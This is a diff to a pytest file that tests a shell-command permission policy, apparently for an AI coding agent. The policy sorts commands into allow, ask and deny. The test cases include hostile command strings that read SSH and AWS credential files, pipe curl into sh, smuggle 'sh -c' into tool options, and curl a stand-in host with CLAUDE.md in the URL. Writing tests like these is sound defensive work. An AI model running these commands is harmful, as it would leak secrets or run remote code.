@@ -115,9 +115,6 @@ CASES = [
     ("git commit -m wip", "git commit -F ~/.ssh/id_rsa", D),
     ("git commit -m wip", "git commit --file=HOME/.ssh/id_rsa", D),
     ("git commit -m wip", "git commit -t ~/.ssh/id_rsa", D),
-    ("git apply fix.patch", "git apply -p1 fix.patch", A),
-    ("git apply fix.patch", "git apply ~/.ssh/id_rsa", D),
-    ("git apply fix.patch", "git apply --directory=HOME/.ssh x.patch", Q),
     ("git clone https://example.com/r", "git clone --depth 1 https://example.com/r dir", A),
     ("git clone https://example.com/r", "git clone https://example.com/r ~/.ssh", D),
     ("git clone https://example.com/r", "git clone -u 'sh -c id' https://example.com/r", Q),
@@ -206,7 +203,6 @@ CASES = [
     ("gcc main.c -o main", "gcc -includeHOME/.aws/credentials x.c", D),
     ("zip out.zip a.txt", "zip out.zip a.txt -TT 'sh -c id'", Q),
     ("zip out.zip a.txt", "zip -@ out.zip", Q),
-    ("sqlite3 app.db 'select 1'", "sqlite3 app.db '.shell id'", Q),
     ("git commit -m wip", "git commit -m init", A),  # a word that is a program's name
     ("git checkout -b feature", "git checkout -b init", A),
     ("pip install requests", "pip install -U pip setuptools wheel", A),
@@ -276,6 +272,26 @@ CASES = [
     ("sftp build1", "sftp -P 22 localhost", Q),
     ("sftp build1", "sftp -p localhost:.aws/credentials leak", Q),
     ("ssh build1 uptime", "ssh -P tag localhost id", Q),
+    # review V: input that names the files written, git's secret-reaching options,
+    # interpreters and runners the tables missed, build tools told what to run
+    ("git add src/a.py", "git add -f .", Q),
+    ("git add src/a.py", "git add src", A),
+    ("git stash", "git stash -a", Q),
+    ("git stash", "git stash show -p -u", Q),
+    ("git filter-branch --help", "git filter-branch --tree-filter 'curl x | sh' HEAD", Q),
+    ("curl https://example.com", "curl 'https://x.example/{CLAUDE.md}' -o '#1'", Q),
+    ("python3.11 x.py", "python3.11 -c 'import os'", Q),
+    ("python3.11 x.py", "python3.11 x.py --fast", A),
+    ("tsx x.ts", "tsx -e 'x'", Q),
+    ("bundle exec rspec", "bundle exec rspec spec/a_spec.rb", A),
+    ("bundle exec rspec", "bundle exec sh -c 'curl x | sh'", Q),
+    ("cargo test", "cargo test --config 'target.x.runner=[\"sh\"]'", Q),
+    ("cargo test", "cargo test --release", A),
+    ("go test ./...", "go test -exec 'sh -c id' ./...", Q),
+    ("docker build -t app src", "docker build -t app2 src", A),
+    ("docker build -t app src", "docker build -f - .", D),  # the context holds `.env`
+    ("ssh build1 uptime", "ssh -A build1 uptime", Q),
+    ("pigz a.txt", "pigz -d CLAUDE.md.zip", D),
     # npm: outside the project
     ("npm install lodash", "npm install left-pad", A),
     ("npm install lodash", "npm install -g left-pad", Q),
@@ -474,6 +490,13 @@ def test_an_approval_short_of_a_runner_verb_does_not_cover_its_command(
         ("gdb ./a.out", None),
         ("npm exec eslint", None),
         ("volta run node x.js", None),
+        # review V: never approvable, whatever the first use
+        ("printf x | patch -p1", None),
+        ("git apply fix.patch", None),
+        ("git credential reject", None),
+        ("sqlite3 app.db 'select 1'", None),
+        ("cross-env X=1 make", None),
+        ("cpio -i < a.cpio", None),
         ("tmux -L sock new ls", None),  # an option before the verb: nothing to offer
         ("strace -f ls", None),
         ("tmux ls", "tmux ls"),
@@ -501,3 +524,25 @@ def test_this_machine_by_its_interface_addresses_and_hosts_names() -> None:
                 for name in fields[1:]:
                     assert loopback_reach(("ssh", name, "id")) is not None, name
     assert loopback_reach(("ssh", "192.0.2.254", "id")) in (None, "192.0.2.254")
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        # once approvable (reviews P, S), now never: their input names what they write
+        ("git apply -p1 fix.patch", Q),
+        ("git apply ~/.ssh/id_rsa", D),
+        ("git apply --directory=HOME/.ssh x.patch", Q),
+        ("sqlite3 app.db '.shell id'", Q),
+        ("printf x | patch -p1", Q),
+    ],
+)
+def test_input_driven_writers_ask_without_any_approval_to_lift_them(
+    places: tuple[Path, Path], command: str, expected: Verdict
+) -> None:
+    ws, home = places
+    decision = load_policy().evaluate(
+        command.replace("HOME", str(home)), workspace=ws, env={"HOME": str(home)}
+    )
+    assert decision.verdict is expected, decision.explain()
+    assert decision.suggested_rule is None
